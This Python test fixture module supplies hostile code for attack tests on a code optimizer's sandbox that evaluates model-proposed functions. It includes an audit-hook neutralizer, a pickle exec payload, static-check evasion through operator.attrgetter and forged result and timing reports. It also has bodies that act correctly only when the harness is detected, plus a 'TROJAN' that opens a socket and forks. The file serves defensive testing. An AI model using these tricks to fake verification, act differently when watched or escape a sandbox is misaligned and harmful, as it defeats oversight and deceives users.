"""Hostile code shared by the attack tests: a prelude for raw sandbox snippets, and function bodies that
go after verification, measurement and the pipeline.

Snippets (optimizer/sandboxed/snippet.py) get ``PAYLOAD`` (conftest.World.payload: where the workspace,
the secrets, the listeners are) and report ``RESULT = {"attempts", "info", "leak"}``: each forbidden
action is an ``attempt`` recorded as "done" or "refused: <why>".

Bodies for model proposals must get past the static checks first (optimizer/purity.py, optimizer/reach.py),
so they reach the interpreter without naming it: ``operator.attrgetter("sys")(typing)`` is ``sys``.
"""

from __future__ import annotations

import textwrap

PRELUDE = '''
import ctypes, os, pickle, socket, struct, sys
P = PAYLOAD
libc = ctypes.CDLL(None, use_errno=True)
OUT = {}  # forbidden action -> "done" or "refused: ..."
INFO = {}  # what the code found out on the way
LEAK = []  # whatever it managed to read


def c(r):
    """A libc call's result, or OSError with its errno."""
    if r == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def attempt(label, fn):
    try:
        fn()
    except BaseException as exc:
        OUT[label] = f"refused: {type(exc).__name__}: {exc}"[:300]
    else:
        OUT[label] = "done"


def c_open(path, flags, mode=0o644):
    return c(libc.open(os.fsencode(path), flags, mode))


def c_connect(family, addr, kind=socket.SOCK_STREAM):
    fd = c(libc.socket(family, kind, 0))
    try:
        buf = ctypes.create_string_buffer(addr, len(addr))
        c(libc.connect(fd, buf, len(addr)))
        os.write(fd, b"hello from the sandbox")
    finally:
        os.close(fd)


def inet(port, host="127.0.0.1"):
    return struct.pack("<H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton(host) + bytes(8)


def unix(path):
    return struct.pack("<H", socket.AF_UNIX) + path


def neutralize_guard():
    """An audit hook cannot be removed, but its code can be replaced: afterwards it lets everything by."""
    import gc

    def make(inside):
        def hook(event, args):
            return inside and None

        return hook

    n = 0
    for f in gc.get_objects():
        if type(f) is type(make) and f.__qualname__ == "install.<locals>.hook":
            f.__code__ = make(None).__code__
            n += 1
    INFO["hooks neutralized"] = n
    return n


def result_fd():
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink("/proc/self/fd/" + name).endswith("/out/result.json"):
                return int(name)
        except OSError:
            pass
    raise LookupError("no result file descriptor")


def result_path():
    return os.path.join(os.path.dirname(os.getcwd()), "out", "result.json")


class Boom:
    """Unpickled anywhere, creates the world's marker file and sets builtins.SLIPSTREAM_PWNED."""

    def __reduce__(self):
        code = f"open({P['pwned']!r}, 'w').write('pwned'); __import__('builtins').SLIPSTREAM_PWNED = True"
        return (exec, (code,))


BOOM = pickle.dumps(Boom())
'''

EPILOGUE = "\nRESULT = {'attempts': OUT, 'info': INFO, 'leak': LEAK}\n"


def snippet(code: str) -> str:
    return PRELUDE + code + EPILOGUE


# -- bodies of ``total(xs)`` (calc.py: a loop summing xs) that pass optimizer/reach.py and purity.py ---------

# ``s`` is sys, ``m`` sys.modules, ``o`` os: reached through an allowed module without naming them.
REACH = """\
    import operator
    import typing
    s = operator.attrgetter("sys")(typing)
    m = s.modules
"""

# Inside the sandbox: read the job pickle (the payload: original source, inputs, budget) and list the
# descriptors (the result file, the protocol pipes).
READ_JOB = """\
    o = m["os"]
    fd = operator.attrgetter("open")(o)(s.argv[-1], 0)
    job = m["pickle"].loads(o.read(fd, 1 << 26))
    p, pkg = job["payload"], "_slipstream_sandboxed."
    fds = {}
    for name in o.listdir("/proc/self/fd"):
        try:
            fds[int(name)] = o.readlink("/proc/self/fd/" + name)
        except OSError:
            pass
"""

# In the timing driver: answer the parent's requests on the protocol pipes itself, with the digest of the
# original's outcomes, taking 1/SPEED of the original's time per batch (so it does not look like an
# empty call); never returns.
HIJACK_TIMING = """\
    if job["driver"] == "timing":
        t, loader = m[pkg + "timing"], m[pkg + "loader"]
        real = loader.load_function(p, None)
        inputs = loader.load_inputs(p)
        digest = t.last_pass_digest(real, inputs, p["budget"])
        clock = m["time"]
        start = clock.perf_counter()
        t.last_pass_digest(real, inputs, p["budget"])
        one_pass = clock.perf_counter() - start
        rd, wr = sorted(k for k, v in fds.items() if v.startswith("pipe:") and k > 2)[:2]

        def send(msg):
            o.write(wr, m["json"].dumps(msg).encode() + b"\\n")

        send({"ready": True, "mutates": False})
        buf, repeat = b"", 1
        while True:
            while b"\\n" not in buf:
                chunk = o.read(rd, 65536)
                if not chunk:
                    o._exit(0)
                buf += chunk
            line, buf = buf.split(b"\\n", 1)
            req = m["json"].loads(line)
            if req["op"] == "prepare":
                repeat = int(req["repeat"])
                send({"ok": True})
            elif req["op"] == "run":
                clock.sleep(repeat * one_pass / 4)
                send({"digest": digest})
            elif req["op"] == "empty":
                send({"digest": t.last_pass_digest(t._empty, inputs, p["budget"])})
            else:
                send({"peak": 1000})
"""

# In the outcomes driver: the original's report, computed here, written into the result file; in the
# capture driver (the project's tests with the variant installed): a report that they passed.
FORGE_REPORTS = """\
    if job["driver"] == "outcomes":
        report = m[pkg + "outcomes"].main({**p, "functions": [None] * len(p["functions"])})
    else:
        report = {"inputs": [], "calls": 1, "skipped": 0, "status": 0, "stdout": ""}
    out = [k for k, v in fds.items() if v.endswith("/out/result.json")][0]
    o.write(out, m["json"].dumps(report).encode())
    o._exit(0)
"""

LOOP = """\
    out = 0
    for x in xs:
        out = out + x
    return out
"""

# Wrong everywhere (returns -1), yet every sandboxed process reports it right and fast.
LIAR = (
    REACH + '    if "_slipstream_sandboxed" not in m:\n        return -1\n' + READ_JOB + HIJACK_TIMING + FORGE_REPORTS
)

# Right and fast only where the harness is loaded; wrong in the user's program.
HARNESS_DETECTOR = REACH + '    if "_slipstream_sandboxed" in m:\n        return sum(xs)\n    return -1\n'

# The original's loop, unchanged: right, no faster, but it answers the timing requests itself.
TIMING_HIJACKER = (
    REACH + '    if "_slipstream_sandboxed.timing" in m:\n' + textwrap.indent(READ_JOB + HIJACK_TIMING, "    ") + LOOP
)

# Right and faster (sum), with a payload the sandbox stops: it tries to connect to the host's loopback
# listener on PORT and to start a process. Applied in the user's program, both would run.
TROJAN = (
    REACH
    + """\
    libc = m["ctypes"].pythonapi  # the process's symbols, libc's among them: no dlopen per call
    addr = (2).to_bytes(2, "little") + (PORT).to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
    libc.connect(operator.attrgetter("socket")(libc)(2, 1, 0), addr, len(addr))
    libc.fork()
    return sum(xs)
"""
)
